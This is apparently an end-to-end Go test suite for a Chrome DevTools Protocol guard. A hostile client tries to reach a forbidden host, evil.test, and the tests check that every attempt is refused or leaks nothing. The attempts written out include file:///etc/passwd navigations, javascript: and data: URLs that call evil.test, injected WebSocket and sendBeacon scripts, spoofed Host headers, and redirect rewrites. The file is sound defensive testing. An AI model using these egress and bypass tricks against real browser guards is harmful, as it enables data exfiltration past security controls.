package e2e

import (
	"encoding/base64"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/cdpguard/cdpguard/e2e/cdptest"
)

// rtEgress: navigation, popup, script and header tricks aimed at evil.test.
func rtEgress(t *testing.T, e *rtEnv) {
	m, p := e.mallory, e.malPage
	t.Run("navigateOddURLs", func(t *testing.T) {
		ev := e.h.Forbidden.Origin()
		host := strings.TrimPrefix(ev, "http://")
		for _, u := range []string{
			"fi\tle:///etc/passwd", " file:///etc/passwd", "FILE:///etc/passwd", "fi\nle:///etc/passwd",
			"view-source:" + e.evil("vs"), "javascript:fetch('" + e.evil("js") + "')",
			"filesystem:" + ev + "/temporary/x", "chrome://version", "devtools://devtools/bundled/inspector.html",
			`\\` + host + `\rt`, "//" + host + "/hit/rt-rel",
		} {
			// Refused as Chrome answers a blocked navigation (issue 13),
			// or, for a URL without a scheme (the last two), as Chrome
			// answers one it cannot parse (issue 33).
			res, err := m.CallWithin(p, "Page.navigate", map[string]any{"url": u}, 10*time.Second)
			blocked := err == nil && strings.Contains(string(res), `"errorText":"net::ERR_BLOCKED_BY_CLIENT"`)
			schemeless := strings.HasPrefix(u, "//") || strings.HasPrefix(u, `\\`)
			invalid := schemeless && err != nil && strings.Contains(err.Error(), "Cannot navigate to invalid URL")
			if !blocked && !invalid {
				t.Errorf("Page.navigate %q: got %s, %v; want errorText net::ERR_BLOCKED_BY_CLIENT (or Chrome's invalid-URL error for a URL without a scheme)", u, res, err)
			}
		}
		// Network URLs to evil.test are the Fetch judge's: they load the
		// explanation page, never the host.
		for _, u := range []string{
			`http:\\` + host + `\hit\rt-backslash`, "http://" + host + "\t/hit/rt-tab", "HTTP://EVIL.TEST:" + strconv.Itoa(e.h.Forbidden.Port) + "/hit/rt-upper",
			"http://allowed.test@" + host + "/hit/rt-userinfo", "blob:" + ev + "/0b6e2a0c-1111-2222-3333-444455556666",
			"data:text/html,<script>fetch('" + e.evil("data") + "');new WebSocket('ws://" + host + "/hit/rt-dataws')</script>",
		} {
			if _, err := m.CallWithin(p, "Page.navigate", map[string]any{"url": u}, 10*time.Second); err != nil {
				t.Logf("Page.navigate %q: %v", u, err)
			}
			time.Sleep(200 * time.Millisecond)
		}
		e.noLeak(t)
		m.Navigate(t, p, userURL(e.h, "mallory"))
	})
	t.Run("createTargetTricks", func(t *testing.T) {
		for _, u := range []string{"file:///etc/passwd", "view-source:" + e.evil("ct-vs"), "javascript:1", "chrome://settings"} {
			_, err := m.CallWithin("", "Target.createTarget", map[string]any{"url": u}, 10*time.Second)
			refused(t, "Target.createTarget "+u, err, "Target.createTarget")
		}
		for _, params := range []map[string]any{
			{"url": e.evil("ct-plain")},
			{"url": e.evil("ct-window"), "newWindow": true},
			{"url": e.evil("ct-bg"), "background": true, "forTab": true},
		} {
			res, err := m.CallWithin("", "Target.createTarget", params, 10*time.Second)
			var ct struct {
				TargetID string `json:"targetId"`
			}
			if err == nil && json.Unmarshal(res, &ct) == nil && ct.TargetID != "" {
				defer m.CallWithin("", "Target.closeTarget", map[string]any{"targetId": ct.TargetID}, 5*time.Second)
			}
		}
		e.noLeak(t)
	})
	t.Run("windowOpen", func(t *testing.T) {
		_, _ = m.CallWithin(p, "Runtime.evaluate", map[string]any{"expression": `window.open("` + e.evil("open") + `"); 1`, "userGesture": true}, 10*time.Second)
		e.noLeak(t)
	})
	t.Run("addScriptOnNewDocument", func(t *testing.T) {
		host := strings.TrimPrefix(e.h.Forbidden.Origin(), "http://")
		src := `try{new WebSocket("ws://` + host + `/hit/rt-ws")}catch(e){};try{new WebSocket("ws://127.0.0.1:` + strconv.Itoa(e.h.Forbidden.Port) + `/hit/rt-wsip")}catch(e){};fetch("` + e.evil("ns") + `").catch(()=>{});navigator.sendBeacon("` + e.evil("beacon") + `")`
		res, err := m.CallWithin(p, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": src}, 10*time.Second)
		if err != nil {
			t.Fatalf("addScriptToEvaluateOnNewDocument: %v", err)
		}
		m.Navigate(t, p, userURL(e.h, "mallory")+"&ns=1")
		e.noLeak(t)
		var id struct {
			Identifier string `json:"identifier"`
		}
		_ = json.Unmarshal(res, &id)
		_, _ = m.CallWithin(p, "Page.removeScriptToEvaluateOnNewDocument", map[string]any{"identifier": id.Identifier}, 10*time.Second)
	})
	t.Run("hostHeaderAndBypassCSP", func(t *testing.T) {
		host := strings.TrimPrefix(e.h.Forbidden.Origin(), "http://")
		_, _ = m.CallWithin(p, "Network.enable", nil, 10*time.Second)
		_, _ = m.CallWithin(p, "Page.setBypassCSP", map[string]any{"enabled": true}, 10*time.Second)
		_, _ = m.CallWithin(p, "Network.emulateNetworkConditions", map[string]any{"offline": false, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}, 10*time.Second)
		_, _ = m.CallWithin(p, "Emulation.setUserAgentOverride", map[string]any{"userAgent": "rt"}, 10*time.Second)
		_, _ = m.CallWithin(p, "Network.setBypassServiceWorker", map[string]any{"bypass": true}, 10*time.Second)
		_, err := m.CallWithin(p, "Network.setExtraHTTPHeaders", map[string]any{"headers": map[string]string{"Host": host, "X-Forwarded-Host": host}}, 10*time.Second)
		t.Logf("setExtraHTTPHeaders Host: %v", err)
		m.Navigate(t, p, userURL(e.h, "mallory")+"&host=1")
		_, _ = m.Eval(p, `fetch("/hit/rt-hostfetch").then(r=>r.status).catch(e=>String(e))`)
		_, _ = m.CallWithin(p, "Network.setExtraHTTPHeaders", map[string]any{"headers": map[string]string{}}, 10*time.Second)
		_, _ = m.CallWithin(p, "Network.disable", nil, 10*time.Second)
		e.noLeak(t)
	})
	t.Run("serviceWorker", func(t *testing.T) {
		got, _ := m.Eval(p, `navigator.serviceWorker ? navigator.serviceWorker.register("data:text/javascript,fetch('`+e.evil("sw")+`')").then(()=>"registered",e=>String(e)) : "no serviceWorker"`)
		t.Logf("service worker: %s", got)
		e.noLeak(t)
	})
}

// pausedOn waits for a Fetch.requestPaused on session whose URL contains
// part and returns its request id.
func pausedOn(t *testing.T, m *cdptest.Client, session, part string) string {
	t.Helper()
	ev, ok := m.WaitEvent(10*time.Second, func(ev cdptest.Message) bool {
		return ev.SessionID == session && ev.Method == "Fetch.requestPaused" && strings.Contains(string(ev.Params), part)
	})
	if !ok {
		t.Fatalf("no Fetch.requestPaused for %s", part)
	}
	var rp struct {
		RequestID string `json:"requestId"`
	}
	_ = json.Unmarshal(ev.Params, &rp)
	return rp.RequestID
}

// rtFetch: page-level interception (allowed) used to redirect or rewrite
// requests the guard already judged.
func rtFetch(t *testing.T, e *rtEnv) {
	m := e.mallory
	target, p := m.OpenPage(t, userURL(e.h, "mallory")+"&fetch=1")
	defer m.CallWithin("", "Target.closeTarget", map[string]any{"targetId": target}, 10*time.Second)
	host := strings.TrimPrefix(e.h.Forbidden.Origin(), "http://")
	if _, err := m.CallWithin(p, "Fetch.enable", map[string]any{"patterns": []map[string]any{{"urlPattern": "*"}}}, 10*time.Second); err != nil {
		t.Fatalf("page-level Fetch.enable: %v", err)
	}
	defer m.CallWithin(p, "Fetch.disable", nil, 10*time.Second)
	// continueAll answers mallory's own later pauses (redirect hops) as a
	// hostile agent would: let them go.
	continueAll := func(d time.Duration) {
		seen := map[string]bool{}
		deadline := time.Now().Add(d)
		for time.Now().Before(deadline) {
			events := m.Events()
			var ids []string
			for _, ev := range events {
				if ev.SessionID == p && ev.Method == "Fetch.requestPaused" {
					var rp struct {
						RequestID string `json:"requestId"`
					}
					_ = json.Unmarshal(ev.Params, &rp)
					if !seen[rp.RequestID] {
						seen[rp.RequestID] = true
						ids = append(ids, rp.RequestID)
					}
				}
			}
			for _, id := range ids {
				_, _ = m.CallWithin(p, "Fetch.continueRequest", map[string]any{"requestId": id}, 5*time.Second)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	t.Run("continueRequestURL", func(t *testing.T) {
		_, _ = m.CallWithin(p, "Runtime.evaluate", map[string]any{"expression": `window.__f1 = fetch("/hit/rt-f1").then(() => "completed", (e) => "failed: " + e); 1`}, 10*time.Second)
		id := pausedOn(t, m, p, "rt-f1")
		for i, u := range []string{e.evil("f1"), "http://allowed.test@" + host + "/", "file:///etc/passwd", "HTTP://" + strings.ToUpper(host) + "/"} {
			_, err := m.CallWithin(p, "Fetch.continueRequest", map[string]any{"requestId": id, "url": u}, 10*time.Second)
			refused(t, "Fetch.continueRequest url "+u, err, "Fetch.continueRequest")
			if i == 0 {
				// Issue 10: the refusal names the host, and the request is
				// failed at once instead of hanging paused.
				refused(t, "Fetch.continueRequest url "+u, err, "evil.test")
				got, err := m.Eval(p, `window.__f1`)
				if err != nil || !strings.Contains(got, "failed") {
					t.Errorf("the page's fetch after the refused redirect: %s %v, want failed", got, err)
				}
			}
		}
		_, err := m.CallWithin(p, "Fetch.continueRequest", map[string]any{"requestId": id, "headers": []map[string]string{{"name": "Host", "value": host}}}, 10*time.Second)
		t.Logf("continueRequest with Host header: %v", err)
		continueAll(time.Second)
		e.noLeak(t)
	})
	t.Run("fulfillRedirect", func(t *testing.T) {
		_, _ = m.CallWithin(p, "Runtime.evaluate", map[string]any{"expression": `fetch("/hit/rt-f2").catch(()=>{}); 1`}, 10*time.Second)
		id := pausedOn(t, m, p, "rt-f2")
		_, err := m.CallWithin(p, "Fetch.fulfillRequest", map[string]any{"requestId": id, "responseCode": 302,
			"responseHeaders": []map[string]string{{"name": "Location", "value": e.evil("f2-hop")}, {"name": "Access-Control-Allow-Origin", "value": "*"}}}, 10*time.Second)
		t.Logf("fulfill with redirect: %v", err)
		continueAll(time.Second)
		e.noLeak(t)
	})
	t.Run("fulfillRedirectNavigation", func(t *testing.T) {
		_, _ = m.CallWithin(p, "Runtime.evaluate", map[string]any{"expression": `location.href = "/page.html?rt-f3"; 1`}, 10*time.Second)
		id := pausedOn(t, m, p, "rt-f3")
		_, err := m.CallWithin(p, "Fetch.fulfillRequest", map[string]any{"requestId": id, "responseCode": 301,
			"responseHeaders": []map[string]string{{"name": "Location", "value": e.evil("f3-hop")}}}, 10*time.Second)
		t.Logf("fulfill navigation with redirect: %v", err)
		continueAll(time.Second)
		e.noLeak(t)
	})
	t.Run("fulfillPageWithEvilScript", func(t *testing.T) {
		_, _ = m.CallWithin(p, "Runtime.evaluate", map[string]any{"expression": `location.href = "/page.html?rt-f4"; 1`}, 10*time.Second)
		id := pausedOn(t, m, p, "rt-f4")
		body := `<img src="` + e.evil("f4-img") + `"><script>new WebSocket("ws://` + host + `/hit/rt-f4ws")</script>`
		_, err := m.CallWithin(p, "Fetch.fulfillRequest", map[string]any{"requestId": id, "responseCode": 200,
			"responseHeaders": []map[string]string{{"name": "Content-Type", "value": "text/html"}},
			"body":            base64Std(body)}, 10*time.Second)
		t.Logf("fulfill page: %v", err)
		continueAll(time.Second)
		e.noLeak(t)
	})
	t.Run("legacyInterception", func(t *testing.T) {
		_, err := m.CallWithin(p, "Network.setRequestInterception", map[string]any{"patterns": []map[string]any{{"urlPattern": "*rt-legacy*"}}}, 10*time.Second)
		t.Logf("Network.setRequestInterception: %v", err)
		_, err = m.CallWithin(p, "Network.continueInterceptedRequest", map[string]any{"interceptionId": "interception-job-1.0", "url": e.evil("legacy")}, 10*time.Second)
		refused(t, "Network.continueInterceptedRequest url", err, "Network.continueInterceptedRequest")
		_, err = m.CallWithin(p, "Network.continueInterceptedRequest", map[string]any{"interceptionId": "interception-job-1.0",
			"rawResponse": base64Std("HTTP/1.1 302 Found\r\nLocation: " + e.evil("legacy-raw") + "\r\n\r\n")}, 10*time.Second)
		t.Logf("continueInterceptedRequest rawResponse: %v", err)
		e.noLeak(t)
	})
}

func base64Std(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
